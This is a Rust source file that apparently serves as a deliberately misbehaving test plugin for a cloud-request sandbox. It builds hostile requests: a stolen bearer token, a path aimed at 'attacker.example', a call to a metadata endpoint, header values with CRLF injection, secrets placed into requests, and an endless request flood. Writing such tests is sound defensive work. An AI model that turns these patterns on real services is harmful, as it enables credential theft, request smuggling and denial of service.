//! The ways to misbehave towards the cloud.

use crate::behaviour::{self, Answer};
use crate::bindings::konductor::plugin::cloud::{self, Request, SendError};
use crate::bindings::konductor::plugin::types::Value;
use crate::values::{field, map, text};

fn request() -> Request {
    Request {
        endpoint: "thing".to_owned(),
        region: None,
        method: "POST".to_owned(),
        path: "/".to_owned(),
        query: Vec::new(),
        headers: Vec::new(),
        body: b"Action=Describe".to_vec(),
        idempotent: true,
    }
}

/// Makes the request that the inputs describe: `endpoint`, `region`, `method`, `path` and `body` are texts, `query`
/// holds a line `name=value` and `headers` a line `name: value` for each. `{secret}` stands for the input `secret`
/// as the guest was given it; `\r` and `\n`, written out in a pair, break its line.
fn told(inputs: &Value) -> Request {
    let secret = field(inputs, "secret");
    let told = |name: &str| field(inputs, name).replace("{secret}", &secret);
    let or = |name: &str, otherwise: String| {
        Some(told(name))
            .filter(|text| !text.is_empty())
            .unwrap_or(otherwise)
    };
    let pairs = |name: &str, between: &str| {
        let pair = |line: &str| {
            let (name, value) = line.split_once(between).unwrap_or((line, ""));
            (name.to_owned(), value.replace("\\r", "\r").replace("\\n", "\n"))
        };
        told(name).lines().map(pair).collect::<Vec<_>>()
    };
    let plain = request();
    Request {
        endpoint: or("endpoint", plain.endpoint),
        region: Some(told("region")).filter(|region| !region.is_empty()),
        method: or("method", plain.method),
        path: or("path", plain.path),
        query: pairs("query", "="),
        headers: pairs("headers", ": "),
        body: told("body").into_bytes(),
        idempotent: true,
    }
}

fn lines(headers: &[(String, String)]) -> String {
    headers
        .iter()
        .map(|(name, value)| format!("{name}: {value}\n"))
        .collect()
}

fn answer(result: Result<cloud::Response, SendError>) -> Answer {
    match result {
        Ok(response) => Answer::Value(map(&[
            ("status", text(&response.status.to_string())),
            ("headers", text(&lines(&response.headers))),
            ("body", text(&String::from_utf8_lossy(&response.body))),
        ])),
        Err(SendError::Denied(why)) => Answer::Denied(why),
        Err(error) => Answer::Failed(format!("{error:?}")),
    }
}

/// Sends one request.
fn send_one(what: &str, inputs: &Value) -> Option<Answer> {
    Some(answer(cloud::send(&match what {
        "send" => request(),
        "send-told" => told(inputs),
        "send-authorization" => Request {
            headers: vec![("Authorization".to_owned(), "Bearer stolen".to_owned())],
            ..request()
        },
        "send-foreign-host" => Request {
            path: "//attacker.example/".to_owned(),
            ..request()
        },
        "send-unknown-endpoint" => Request {
            endpoint: "metadata".to_owned(),
            ..request()
        },
        "send-slow" => Request {
            path: "/slow".to_owned(),
            ..request()
        },
        _ => return None,
    })))
}

/// Sends requests until the host refuses.
fn send_many(what: &str) -> Option<Answer> {
    (what == "send-forever").then(|| {
        loop {
            if let Err(SendError::Denied(why)) = cloud::send(&request()) {
                return Answer::Denied(why);
            }
        }
    })
}

/// Does what it is told about the cloud, and then something else where the inputs say `then`.
pub fn behave(what: &str, inputs: &Value) -> Option<Answer> {
    let done = send_many(what).or_else(|| send_one(what, inputs))?;
    match (&done, field(inputs, "then").as_str()) {
        (Answer::Value(_), next) if !next.is_empty() => Some(behaviour::behave(next, inputs)),
        _ => Some(done),
    }
}
